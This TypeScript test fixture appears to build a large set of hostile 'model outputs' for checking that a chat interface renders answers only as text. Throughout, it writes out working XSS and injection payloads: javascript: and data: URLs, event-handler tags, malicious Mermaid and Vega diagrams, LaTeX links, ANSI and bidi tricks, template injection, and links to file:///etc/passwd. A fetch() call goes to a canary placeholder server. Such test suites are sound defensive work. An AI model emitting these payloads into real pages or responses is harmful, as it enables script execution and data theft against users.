/** What a model under an attacker's control writes: every answer must stay text. */

/** Replaced by the address of a server that must not be reached. */
const canary = 'CANARY'
/** Run by a payload that gets its script to run. */
const script = `window.pwned=1;fetch('${canary}s')`

const addresses = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `java\tscript:${script}`,
  `&#106;avascript:${script}`,
  `vbscript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${script}"/>`,
  'file:///etc/passwd',
  'smb://127.0.0.1/share',
  'ms-msdt:/id PCWDiagnostic',
  'modelport://providers/remove',
  'app://modelport/../../package.json',
  `${canary}a`,
  `//${canary.toLowerCase()}.test/a`,
] as const

/** Each form puts an address where a careless renderer loads it or follows it. */
const forms: readonly ((address: string) => string)[] = [
  (address) => `[a link](${address})`,
  (address) => `[a link](<${address}>)`,
  (address) => `![a picture](${address})`,
  (address) => `![a picture][ref]\n\n[ref]: ${address}`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">a link</a>`,
  (address) => `<img src="${address}" onerror="${script}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<svg><a xlink:href="${address}"><image href="${address}"/></a></svg>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<form action="${address}"><button autofocus>Go</button></form>`,
  (address) => `<video poster="${address}" src="${address}" autoplay></video>`,
  (address) => `<link rel="stylesheet" href="${address}"><link rel="prefetch" href="${address}">`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
]

const single: readonly string[] = [
  `<script>${script}</script>`,
  `<script src="${canary}script"></script>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img src=x onerror=${script}>`,
  `<body onload="${script}">`,
  `<details open ontoggle="${script}">more</details>`,
  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<style>@import '${canary}css'; * { background: url(${canary}bg) }</style>`,
  `<div style="background:url(${canary}div)">x</div>`,
  `<base href="${canary}">`,
  `<template><img src="${canary}t"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  '```mermaid\ngraph TD; A["<img src=x onerror=window.pwned=1>"]\n```',
  `\`\`\`mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD; A-->B; click A href "javascript:${script}"\n\`\`\``,
  `\`\`\`mermaid\nflowchart LR\n A["<img src='${canary}m1' onerror='${script}'>"] --> B(<script>${script}</script>)\n\`\`\``,
  `\`\`\`mermaid\ngraph TD\n A@{ img: "${canary}m2", label: "x" } --> B\n style A fill:url(${canary}m3)\n style B fill:red" onload="${script}\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"themeCSS": "@import url(${canary}m4)"}}%%\nsequenceDiagram\n A->>B: <image href="${canary}m5"/>\n links A: {"x": "${canary}m6"}\n\`\`\``,
  `\`\`\`mermaid\nclassDiagram\n class A["</text></svg><script>${script}</script>"]\n A <|-- B\n link A "${canary}m7"\n callback B "alert"\n\`\`\``,
  `\`\`\`mermaid\ngraph TD\n${Array.from({ length: 400 }, (_, at) => `n${at % 20}-->n${(at * 7) % 20}`).join('\n')}\n\`\`\``,
  `\`\`\`vega\n{"data":{"url":"${canary}vega"}}\n\`\`\``,
  `\`\`\`html\n<script>${script}</script>\n\`\`\``,
  `\`\`\`svg\n<svg onload="${script}"/>\n\`\`\``,
  String.raw`\(\href{javascript:window.pwned=1}{x}\)`,
  String.raw`\[\includegraphics{CANARYmath}\]`,
  String.raw`$$\url{CANARYmath}\htmlData{x=1}{y}\class{z}{w}$$`,
  String.raw`\(\def\a{\a\a}\a\)`,
  '\u001B]8;;javascript:1\u0007ansi\u001B]8;;\u0007 \u001B[2J',
  '\u202Etxt.exe\u202C \u2066hidden\u2069',
  `event: execute\ndata: {"code":"${script}"}`,
  `{"type":"replace","data":{"content":"<img src=x onerror=${script}>"}}`,
  `{{constructor.constructor('${script}')()}}`,
  '<!--', // never closed
  '<![CDATA[<script>window.pwned=1</script>]]>',
  `<a href="https://good.example@127.0.0.1/">a link</a>`,
  `| a |\n|---|\n| <img src="${canary}table"> |`,
  `> <iframe srcdoc="<script>${script}</script>"></iframe>`,
  `[x]: <javascript:${script}> "t"\n\n[x]`,
  `<portal src="${canary}portal"></portal><fencedframe></fencedframe>`,
  `<input autofocus onfocus="${script}">`,
  `<x-modelport onclick="${script}">Click</x-modelport>`,
]

/** @param url  of the server that must not be reached */
export function hostileOutputs(url: string): string[] {
  const combined = forms.flatMap((form) => addresses.map((address) => form(address)))
  return [...combined, ...single].map((output) => output.replaceAll(canary, url))
}
